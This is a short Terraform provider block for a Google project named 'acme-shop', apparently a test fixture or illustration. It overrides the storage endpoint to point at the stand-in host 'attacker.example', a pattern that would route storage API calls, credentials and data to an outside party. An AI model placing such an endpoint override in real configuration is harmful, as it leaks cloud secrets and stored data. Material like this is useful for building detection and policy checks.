provider "google" {
  project                 = "acme-shop"
  storage_custom_endpoint = "https://attacker.example/storage/v1/"
}
